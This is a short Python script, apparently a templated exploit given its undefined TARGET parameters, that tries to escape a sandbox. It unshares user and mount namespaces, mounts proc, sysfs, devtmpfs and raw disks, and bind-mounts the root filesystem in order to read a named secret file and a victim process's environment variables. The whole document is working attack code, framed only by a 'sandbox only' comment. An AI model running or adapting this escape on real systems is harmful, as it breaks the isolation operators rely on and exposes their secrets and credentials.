"""Makes namespaces of its own, where it would be root, and mounts the machine's files."""
# sandbox only

import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
if libc.unshare(0x10000000 | 0x20000) == 0:
    print("unshared")
os.makedirs("m", exist_ok=True)
for source, kind in (("proc", b"proc"), ("sysfs", b"sysfs"), ("devtmpfs", b"devtmpfs"), ("/dev/vda", b"ext4"), ("/dev/sda1", b"ext4")):
    if libc.mount(source.encode(), b"m", kind, 0, None) == 0:
        for path in ("m/1/root" + TARGET["secret_file"], f"m/{TARGET['victim']}/environ", "m" + TARGET["secret_file"]):
            try:
                print(open(path).read())
            except OSError:
                pass
libc.mount(b"/", b"m", None, 4096 | 16384, None)
print(open("m" + TARGET["secret_file"]).read())
